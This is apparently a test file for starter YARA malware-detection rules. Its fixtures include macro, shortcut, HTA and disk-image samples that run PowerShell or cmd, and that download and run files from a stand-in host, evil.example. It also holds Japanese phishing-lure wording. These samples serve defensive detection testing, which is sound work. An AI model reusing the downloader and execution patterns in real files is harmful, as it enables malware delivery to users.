// The starter YARA rules in policies/yara: for every rule, content built here that it must match
// and content it must not. Also: every rule has the meta analysts rely on, every rule is covered
// by this table, and the rules compile with the YARA 4 command-line tool too (the benchmark runs
// both engines on them).
import { expect } from 'chai';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import path from 'node:path';
import iconv from 'iconv-lite';
import { createLogger } from '../../core/logger.ts';
import { createYaraScanner } from '../../analysis/engines/yara.ts';
import { outlineRules } from '../../analysis/engines/yara-outline.ts';
import type { YaraScanner } from '../../analysis/types.ts';
import { buildLnk, buildOle2, buildZip } from './helpers/file-builders.ts';
import { requireTool } from '../helpers/require-tool.ts';

const RULES_DIR = fileURLToPath(new URL('../../policies/yara/', import.meta.url));
const ascii = (s: string) => Buffer.from(s, 'latin1');
const utf16 = (s: string) => Buffer.from(s, 'utf16le');
const sjis = (s: string) => iconv.encode(s, 'Shift_JIS');
const utf8 = (s: string) => Buffer.from(s, 'utf8');

/** An OLE2 vbaProject as Office stores it: VBA storage with _VBA_PROJECT, dir and a module. */
function vbaProject(moduleText: string): Buffer {
  return buildOle2({
    'VBA/_VBA_PROJECT': Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00]),
    'VBA/dir': Buffer.from([1, 0, 0, 0]),
    'VBA/ThisDocument': ascii(moduleText),
    PROJECT: ascii('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'),
  });
}

/** An ISO 9660 image: primary volume descriptor at sector 16, then a directory sector holding these names. */
function isoImage(fileIdentifiers: readonly Buffer[]): Buffer {
  const image = Buffer.alloc(2048 * 20);
  image[0x8000] = 1;
  ascii('CD001').copy(image, 0x8001);
  image[0x8006] = 1;
  let at = 2048 * 18;
  for (const id of fileIdentifiers) {
    const record = Buffer.alloc(33 + id.length + (id.length % 2 === 0 ? 1 : 0));
    record[0] = record.length;
    record[32] = id.length;
    id.copy(record, 33);
    record.copy(image, at);
    at += record.length;
  }
  return image;
}

/** A FAT12 floppy image: boot sector, then a root directory with these 8.3 entries ("NAME    EXT"). */
function fatImage(entries: readonly string[]): Buffer {
  const image = Buffer.alloc(512 * 40);
  Buffer.from([0xeb, 0x3c, 0x90]).copy(image, 0);
  ascii('MSDOS5.0').copy(image, 3);
  image.writeUInt16LE(512, 11);
  ascii('NO NAME    FAT12   ').copy(image, 0x2b);
  image.writeUInt16LE(0xaa55, 510);
  let at = 512 * 19;
  for (const e of entries) {
    ascii(e.padEnd(11, ' ')).copy(image, at);
    image[at + 11] = 0x20; // archive
    at += 32;
  }
  return image;
}

interface RuleCase {
  readonly rule: string;
  readonly matches: readonly { readonly what: string; readonly content: () => Buffer | Promise<Buffer> }[];
  readonly misses: readonly { readonly what: string; readonly content: () => Buffer | Promise<Buffer> }[];
}

const CASES: readonly RuleCase[] = [
  {
    rule: 'C4TAP_Office_Macro_AutoExec_Shell',
    matches: [
      {
        what: 'a vbaProject.bin whose AutoOpen runs Shell',
        content: () => vbaProject('Attribut\x00e VB_Nam\x00e = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c start calc", vbHide\r\nEnd Sub\r\n'),
      },
      {
        what: 'VBA source with Document_Open and WScript.Shell',
        content: () =>
          ascii(
            'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  CreateObject("WScript.Shell").Run "powershell -nop -w hidden"\r\nEnd Sub\r\n',
          ),
      },
    ],
    misses: [
      {
        what: 'a vbaProject.bin with AutoOpen that only formats text',
        content: () => vbaProject('Sub AutoOpen()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n'),
      },
      {
        what: 'an article that mentions AutoOpen and Shell without any VBA project',
        content: () => ascii('Attackers use AutoOpen macros that call Shell to start cmd.exe.'),
      },
    ],
  },
  {
    rule: 'C4TAP_Office_Macro_Downloader',
    matches: [
      {
        what: 'VBA source that downloads with URLDownloadToFile and runs it',
        content: () =>
          ascii(
            'Attribute VB_Name = "Module1"\r\nPrivate Declare PtrSafe Function URLDownloadToFile Lib "urlmon" ()\r\nSub Go()\r\n URLDownloadToFile 0, "http://evil.example/a.exe", "a.exe", 0, 0\r\n Shell "a.exe"\r\nEnd Sub\r\n',
          ),
      },
      {
        what: 'a vbaProject.bin that fetches with MSXML2.XMLHTTP and saves with ADODB.Stream',
        content: () => vbaProject('Set h = CreateObject("MSXML2.XMLHTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "x.exe"\r\n'),
      },
    ],
    misses: [
      {
        what: 'VBA source that fetches a page but neither runs nor saves it',
        content: () => ascii('Attribute VB_Name = "Module1"\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://intranet.example/", False\r\n'),
      },
      {
        what: 'a text about URLDownloadToFile and Shell outside any macro',
        content: () => ascii('URLDownloadToFile followed by Shell is a classic downloader pattern.'),
      },
    ],
  },
  {
    rule: 'C4TAP_LNK_Command_Lure',
    matches: [
      { what: 'a shortcut whose arguments run PowerShell', content: () => buildLnk() },
      { what: 'a shortcut that runs mshta on a URL', content: () => buildLnk('C:\\Windows\\System32\\mshta.exe https://evil.example/a.hta') },
    ],
    misses: [
      { what: 'a shortcut to a PDF', content: () => buildLnk('C:\\Users\\staff\\Documents\\report.pdf') },
      { what: 'a text file that names powershell but is no shortcut', content: () => utf16('powershell -w hidden') },
    ],
  },
  {
    rule: 'C4TAP_ISO_Lure_Executable',
    matches: [
      { what: 'an ISO holding INVOICE.LNK', content: () => isoImage([ascii('INVOICE.LNK;1'), ascii('DATA.DAT;1')]) },
      { what: 'an ISO whose Joliet name is 請求書.exe', content: () => isoImage([Buffer.from(iconv.encode('請求書.exe', 'utf16be'))]) },
      { what: 'an ISO whose Joliet name is scan.js;1', content: () => isoImage([Buffer.from(iconv.encode('scan.js;1', 'utf16be'))]) },
    ],
    misses: [
      { what: 'an ISO holding only README.TXT', content: () => isoImage([ascii('README.TXT;1')]) },
      { what: 'a text naming INVOICE.LNK;1 without an ISO volume', content: () => ascii('copy INVOICE.LNK;1 to the desktop') },
    ],
  },
  {
    rule: 'C4TAP_IMG_FAT_Lure_Executable',
    matches: [
      { what: 'a FAT12 image holding INVOICE.LNK', content: () => fatImage(['INVOICE LNK', 'DATA    BIN']) },
      { what: 'a FAT12 image holding SETUP.EXE', content: () => fatImage(['SETUP   EXE']) },
    ],
    misses: [
      { what: 'a FAT12 image holding only REPORT.PDF', content: () => fatImage(['REPORT  PDF']) },
      {
        what: 'a boot sector without a FAT file system holding INVOICE LNK',
        content: () => {
          const b = fatImage(['INVOICE LNK']);
          b.fill(0x20, 0x36, 0x3e);
          return b;
        },
      },
    ],
  },
  {
    rule: 'C4TAP_HTA_Script_Execution',
    matches: [
      {
        what: 'an HTA that runs cmd through WScript.Shell',
        content: () =>
          ascii(
            '<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/>\n<script language="VBScript">Set s = CreateObject("WScript.Shell"): s.Run "cmd /c calc", 0: window.close</script></head></html>',
          ),
      },
      {
        what: 'a UTF-16 HTA using ActiveXObject',
        content: () => utf16('<hta:application id="x"/><script>new ActiveXObject("Shell.Application").ShellExecute("powershell")</script>'),
      },
    ],
    misses: [
      {
        what: 'an HTA that only shows a form',
        content: () => ascii('<html><head><hta:application id="app"/></head><body><form><input type="text"/></form></body></html>'),
      },
      {
        what: 'a web page that uses ActiveXObject but is no HTA',
        content: () => ascii('<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP");</script></html>'),
      },
      {
        what: 'HTA text inside high-entropy data',
        content: () => Buffer.concat([randomBytes(64 * 1024), ascii('<hta:application/><script>CreateObject("WScript.Shell")</script>')]),
      },
    ],
  },
  {
    rule: 'C4TAP_Zip_Encrypted',
    matches: [
      {
        what: 'a ZipCrypto zip (PPAP)',
        content: () => buildZip([{ name: '見積書.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }),
      },
      { what: 'an AES zip', content: () => buildZip([{ name: 'a.txt', content: utf8('x') }], { password: 'Pa55', encryption: 'aes' }) },
    ],
    misses: [
      { what: 'a plain zip', content: () => buildZip([{ name: 'a.txt', content: utf8('hello') }]) },
      {
        what: 'data that only contains a zip header further on',
        content: async () =>
          Buffer.concat([ascii('MZ not a zip'), await buildZip([{ name: 'a.txt', content: utf8('x') }], { password: 'Pa55', encryption: 'zipcrypto' })]),
      },
    ],
  },
  {
    rule: 'C4TAP_Zip_Encrypted_Risky_Member',
    matches: [
      {
        what: 'an encrypted zip holding invoice.pdf.lnk',
        content: () => buildZip([{ name: 'invoice.pdf.lnk', content: buildLnk() }], { password: 'Pa55', encryption: 'zipcrypto' }),
      },
      {
        what: 'an AES zip holding SETUP.EXE among documents',
        content: () =>
          buildZip(
            [
              { name: 'readme.txt', content: utf8('x') },
              { name: 'SETUP.EXE', content: ascii('MZ') },
            ],
            { password: 'Pa55', encryption: 'aes' },
          ),
      },
      {
        what: 'an encrypted zip holding a .js script',
        content: () => buildZip([{ name: 'scan.js', content: utf8('WScript.Echo(1)') }], { password: 'Pa55', encryption: 'zipcrypto' }),
      },
    ],
    misses: [
      {
        what: 'an encrypted zip holding only a PDF',
        content: () => buildZip([{ name: 'invoice.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }),
      },
      { what: 'a plain zip holding a shortcut', content: () => buildZip([{ name: 'invoice.lnk', content: buildLnk() }]) },
    ],
  },
  {
    rule: 'C4TAP_JA_Lure_Keywords_UTF8',
    matches: [
      { what: 'a UTF-8 body with 請求書 and 添付ファイル', content: () => utf8('いつもお世話になっております。\n請求書を添付ファイルにてお送りします。') },
      { what: 'a UTF-8 body with 至急 and ご確認', content: () => utf8('【至急】お振込先変更のご確認をお願いします') },
    ],
    misses: [
      { what: 'a UTF-8 body with a single keyword', content: () => utf8('請求書は来月まとめてお送りします。') },
      { what: 'the same lure wording in Shift_JIS', content: () => sjis('請求書を添付ファイルにてお送りします。') },
      {
        what: 'lure wording inside compressed or encrypted (high-entropy) data',
        content: () => Buffer.concat([randomBytes(64 * 1024), utf8('請求書を添付ファイルにてお送りします。')]),
      },
    ],
  },
  {
    rule: 'C4TAP_JA_Lure_Keywords_SJIS',
    matches: [
      { what: 'a Shift_JIS text with 見積書 and 至急', content: () => sjis('至急、見積書をご確認ください。') },
      { what: 'a Shift_JIS text with お支払い and 振込', content: () => sjis('お支払いは下記口座へお振込みください。') },
    ],
    misses: [
      { what: 'a Shift_JIS text with a single keyword', content: () => sjis('注文書の書式を更新しました。') },
      { what: 'the same lure wording in UTF-8', content: () => utf8('至急、見積書をご確認ください。') },
    ],
  },
  {
    rule: 'C4TAP_JA_PPAP_Password_Notice',
    matches: [
      { what: 'a UTF-8 notice that the password follows in another mail', content: () => utf8('添付ファイルのパスワードは別メールにてお送りします。') },
      { what: 'a Shift_JIS notice with the unzip password', content: () => sjis('解凍パスワード：Xk29fq') },
    ],
    misses: [
      { what: 'a UTF-8 reminder to change a password', content: () => utf8('パスワードを定期的に変更してください。') },
      { what: 'a Shift_JIS text about encryption without a password', content: () => sjis('通信は暗号化されています。') },
    ],
  },
];

describe('starter YARA rules (policies/yara)', () => {
  let scanner: YaraScanner;
  before(async () => {
    scanner = await createYaraScanner({ rulesDir: RULES_DIR, log: createLogger({ level: 'silent' }) });
  });
  after(async () => {
    await scanner.close();
  });

  async function matchedRules(content: Buffer): Promise<Map<string, Readonly<Record<string, string | number | boolean>>>> {
    const outcome = await scanner.scan(content);
    if (outcome.kind !== 'scanned') throw new Error(`not scanned: ${outcome.reason}`);
    return new Map(outcome.matches.map((m) => [m.rule, m.meta]));
  }

  it('all load, with no compile error', () => {
    const files = readdirSync(RULES_DIR)
      .filter((f) => f.endsWith('.yar'))
      .sort();
    expect(scanner.status()).to.deep.equal({ loaded: files, errors: [] });
  });

  it('every starter rule has a case in this file (private helper rules are never reported)', () => {
    const declared = readdirSync(RULES_DIR)
      .filter((f) => f.endsWith('.yar'))
      .flatMap((f) => {
        const source = readFileSync(path.join(RULES_DIR, f), 'utf8');
        const hidden = new Set([...source.matchAll(/\bprivate\s+rule\s+(\w+)/g)].map((m) => m[1]));
        return outlineRules(source)!.rules.filter((r) => !hidden.has(r));
      });
    expect(CASES.map((c) => c.rule).sort()).to.deep.equal([...declared].sort());
  });

  for (const c of CASES) {
    describe(c.rule, () => {
      for (const m of c.matches) {
        it(`matches ${m.what}`, async () => {
          const meta = (await matchedRules(await m.content())).get(c.rule);
          expect(meta, `${c.rule} did not match`).to.not.equal(undefined);
          expect(meta!.author).to.equal('C4TAP');
          expect(meta!.severity).to.be.oneOf(['low', 'medium', 'high', 'critical']);
          expect(meta!.description).to.be.a('string').and.not.equal('');
        });
      }
      for (const m of c.misses) {
        it(`does not match ${m.what}`, async () => {
          expect([...(await matchedRules(await m.content())).keys()]).to.not.include(c.rule);
        });
      }
    });
  }

  it('compile with the YARA 4 command-line tool too (Debian yara, used by the benchmark)', function () {
    let version: string;
    try {
      version = execFileSync('yara', ['--version'], { encoding: 'utf8' }).trim();
    } catch {
      requireTool(this, { why: 'the yara command-line tool is not installed', fix: 'apt-get install yara' });
      return;
    }
    expect(version).to.match(/^4\./);
    for (const f of readdirSync(RULES_DIR).filter((n) => n.endsWith('.yar'))) {
      // -w: warnings are not errors; an empty target file only makes yara compile and run the rules
      execFileSync('yara', ['-w', path.join(RULES_DIR, f), '/dev/null'], { stdio: 'pipe' });
    }
  });
});
